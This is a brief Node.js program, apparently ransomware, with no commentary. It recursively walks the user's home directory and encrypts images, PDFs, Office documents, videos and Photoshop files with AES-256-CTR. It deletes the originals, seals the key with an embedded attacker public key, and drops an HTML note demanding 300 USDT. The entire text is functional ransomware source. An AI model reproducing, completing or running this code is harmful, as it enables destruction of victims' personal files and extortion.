const { createCipheriv, randomBytes, publicEncrypt } = require('crypto');
const fs = require('fs');
const { join, extname } = require('path');
const { homedir } = require('os');

const PUB = fs.readFileSync(join(__dirname, 'pub.pem'));
const KINDS = new Set(['.jpg', '.jpeg', '.png', '.heic', '.pdf', '.docx', '.pptx', '.mp4', '.psd']);
const key = randomBytes(32);

function visit(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    try {
      if (e.isDirectory()) visit(p);
      else if (KINDS.has(extname(p).toLowerCase())) {
        const iv = randomBytes(16);
        const c = createCipheriv('aes-256-ctr', key, iv);
        fs.writeFileSync(p + '.opt', Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
        fs.unlinkSync(p);
      }
    } catch {}
  }
}
visit(homedir());
fs.writeFileSync(join(homedir(), 'HOW_TO_RESTORE.html'),
  `<h1>Your files are safe with us</h1><p>Pay 300 USDT. ID:</p><pre>${publicEncrypt(PUB, key).toString('base64')}</pre>`);
